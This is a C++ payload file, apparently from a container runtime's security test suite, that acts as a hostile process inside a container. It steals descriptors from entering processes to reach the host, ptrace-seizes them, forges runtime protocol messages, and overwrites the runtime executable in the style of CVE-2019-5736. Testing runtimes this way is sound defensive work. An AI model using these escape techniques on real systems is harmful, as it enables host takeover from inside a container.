// SPDX-License-Identifier: Apache-2.0
//
// What a container does that wants out: it lies in wait for processes that
// enter it. Each act says "ready" and goes on until it is killed.
#include <dirent.h>
#include <fcntl.h>
#include <poll.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/uio.h>
#include <sys/wait.h>
#include <unistd.h>

#include <array>
#include <cerrno>
#include <cstdio>
#include <cstdlib>
#include <cstring>
#include <string>

#include "engine/protocol.hpp"
#include "payload.hpp"

namespace payload {
namespace {

using oci::engine::Message;
using oci::engine::MessageKind;

void say(const char* text) {
    std::printf("%s\n", text);
    (void)std::fflush(stdout);
}

/// Descriptors a fresh process may have from its past.
constexpr int most_fds = 16;

struct Newcomer {
    pid_t pid;
    int pidfd;
};

/// Spins until a process with the next pid appears.
Newcomer wait_for_newcomer(pid_t& next) {
    constexpr pid_t reach = 64;
    for (;;)
        for (pid_t pid = next; pid < next + reach; ++pid) {
            const long pidfd = ::syscall(SYS_pidfd_open, pid, 0);
            if (pidfd < 0) continue;
            next = pid + 1;
            return {pid, static_cast<int>(pidfd)};
        }
}

/// Whether a file outside is found from a directory.
bool reaches(int directory, const std::string& canary) {
    std::string path;
    for (int i = 0; i < 24; ++i) path += "../";
    struct stat status {};
    return ::fstatat(directory, (path + canary).c_str(), &status, 0) == 0;
}

void look_around(const Newcomer& newcomer, const std::string& canary) {
    constexpr int looks = 300;
    const std::string home = "/proc/" + std::to_string(newcomer.pid);
    for (int look = 0; look < looks; ++look) {
        for (const char* name : {"/cwd", "/root"}) {
            const int fd = ::open((home + name).c_str(), O_PATH | O_DIRECTORY | O_CLOEXEC);
            if (fd < 0 && errno == ENOENT) return;
            if (fd >= 0 && reaches(fd, canary)) say("host reached by cwd or root");
            ::close(fd);
        }
        for (int number = 3; number < most_fds; ++number) {
            const long fd = ::syscall(SYS_pidfd_getfd, newcomer.pidfd, number, 0);
            if (fd < 0 && errno == ESRCH) return;
            if (fd >= 0 && reaches(static_cast<int>(fd), canary)) say("host reached by descriptor");
            ::close(static_cast<int>(fd));
        }
    }
}

Message forged(std::string_view what) {
    Message message;
    if (what == "text") std::memset(static_cast<void*>(&message), 0xff, sizeof message);
    message.kind = what == "hooks"     ? MessageKind::RunHooks
                   : what == "started" ? MessageKind::Started
                   : what == "ready"   ? MessageKind::Ready
                                       : MessageKind::Failed;
    return message;
}

/// Sends with one of our own pidfds, as the real one would come.
void send_message(int socket, const Message& message) {
    const long self = ::syscall(SYS_pidfd_open, ::getpid(), 0);
    (void)oci::kernel::send_packet(oci::FdView{socket}, std::as_bytes(std::span{&message, 1}),
                                   oci::FdView{static_cast<int>(self)});
    ::close(static_cast<int>(self));
}

/// True once a message was sent over a socket taken from it.
bool speak_for(const Newcomer& newcomer, const Message& message) {
    constexpr int looks = 30;  // or the next one is missed
    for (int look = 0; look < looks; ++look)
        for (int number = 3; number < most_fds; ++number) {
            const long fd = ::syscall(SYS_pidfd_getfd, newcomer.pidfd, number, 0);
            if (fd < 0 && errno == ESRCH) return false;
            if (fd < 0) continue;
            struct stat status {};
            const bool is_socket =
                ::fstat(static_cast<int>(fd), &status) == 0 && S_ISSOCK(status.st_mode);
            if (is_socket) send_message(static_cast<int>(fd), message);
            ::close(static_cast<int>(fd));
            if (is_socket) return true;
        }
    return false;
}

/// Again and again as long as somebody runs it, which is all that keeps one off (ETXTBSY).
void write_to_executable(const char* path, useconds_t pause) {
    constexpr int tries = 50;
    for (int attempt = 0; attempt < tries; ++attempt) {
        const int fd = ::open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
        if (fd < 0 && errno != ETXTBSY) return;
        if (fd < 0) {
            ::usleep(pause);
            continue;
        }
        if (::write(fd, "EVIL", 4) == 4) say("written");
        ::close(fd);
        return;
    }
}

/// CapPrm of proc_pid_status(5); none: the process is gone.
unsigned long long capabilities_of(pid_t pid) {
    const std::string path = "/proc/" + std::to_string(pid) + "/status";
    const int fd = ::open(path.c_str(), O_RDONLY | O_CLOEXEC);
    std::array<char, 4096> text{};
    const ssize_t size = fd < 0 ? -1 : ::read(fd, text.data(), text.size() - 1);
    ::close(fd);
    const char* found = size > 0 ? std::strstr(text.data(), "CapPrm:") : nullptr;
    return found == nullptr ? 0 : std::strtoull(found + std::strlen("CapPrm:"), nullptr, 16);
}

/// Takes the first newcomer there is hold of: it stops where it is, with all it may do.
void seize_from(const Newcomer& newcomer, unsigned long long own) {
    if (::ptrace(PTRACE_SEIZE, newcomer.pid, nullptr, nullptr) != 0) return say("refused");
    (void)::ptrace(PTRACE_INTERRUPT, newcomer.pid, nullptr, nullptr);
    const bool gains = (capabilities_of(newcomer.pid) & ~own) != 0;
    say(gains ? "seized more than it had" : "seized");
    ::waitpid(newcomer.pid, nullptr, 0);
    (void)::ptrace(PTRACE_DETACH, newcomer.pid, nullptr, nullptr);
}

#ifdef __x86_64__
constexpr int getppid_of_i386 = 64;
constexpr long x32_bit = 0x40000000;

long getppid_by_i386() {
    long answer = getppid_of_i386;
    // NOLINTNEXTLINE(hicpp-no-assembler): the libc knows one way in only
    asm volatile("int $0x80" : "+a"(answer) : : "memory", "r8", "r9", "r10", "r11");
    return answer;
}

long getppid_by_x32() {
    const long answer = ::syscall(x32_bit | SYS_getppid);
    return answer < 0 ? -errno : answer;
}
#endif

long getppid_by_native() {
    const long answer = ::syscall(SYS_getppid);
    return answer < 0 ? -errno : answer;
}

/// In a process of its own: "name answer", or "name killed N".
void try_entry(const char* name, long (*entry)()) {
    (void)std::fflush(stdout);
    const pid_t child = ::fork();
    if (child == 0) {
        const long answer = entry();
        std::printf("%s %s %ld\n", name, answer < 0 ? "errno" : "ok", answer < 0 ? -answer : 0L);
        (void)std::fflush(stdout);
        ::_exit(0);
    }
    int status = 0;
    ::waitpid(child, &status, 0);
    if (WIFSIGNALED(status)) std::printf("%s killed %d\n", name, WTERMSIG(status));
}

}  // namespace

int entries(int, char**) {
    try_entry("native", getppid_by_native);
#ifdef __x86_64__
    try_entry("i386", getppid_by_i386);
    try_entry("x32", getppid_by_x32);
#endif
    return 0;
}

int watch(int argc, char** argv) {
    const std::string canary = argc > 2 ? argv[2] : "";
    say("ready");
    for (pid_t next = ::getpid() + 1;;) {
        const Newcomer newcomer = wait_for_newcomer(next);
        look_around(newcomer, canary);
        ::close(newcomer.pidfd);
    }
}

int speak(int argc, char** argv) {
    const Message message = forged(argc > 2 ? argv[2] : "");
    say("ready");
    for (pid_t next = ::getpid() + 1;;) {
        const Newcomer newcomer = wait_for_newcomer(next);
        if (speak_for(newcomer, message)) say("spoke");
        ::close(newcomer.pidfd);
    }
}

int seize(int, char**) {
    const unsigned long long own = capabilities_of(::getpid());
    say("ready");
    for (pid_t next = ::getpid() + 1;;) {
        const Newcomer newcomer = wait_for_newcomer(next);
        seize_from(newcomer, own);
        ::close(newcomer.pidfd);
    }
}

int overwrite(int, char**) {
    say("ready");
    for (pid_t next = ::getpid() + 1;;) {
        const Newcomer newcomer = wait_for_newcomer(next);
        // Kept open by its path: what holds after it has gone, CVE-2019-5736 wrote then.
        const std::string path = "/proc/" + std::to_string(newcomer.pid) + "/exe";
        const int held = ::open(path.c_str(), O_PATH | O_CLOEXEC);
        if (held >= 0) say("held");
        constexpr int milliseconds = 300;
        pollfd until_it_ends{newcomer.pidfd, POLLIN, 0};
        if (held >= 0) (void)::poll(&until_it_ends, 1, milliseconds);
        if (held >= 0) write_to_executable(("/proc/self/fd/" + std::to_string(held)).c_str(), 1000);
        ::close(held);
        ::close(newcomer.pidfd);
    }
}

}  // namespace payload
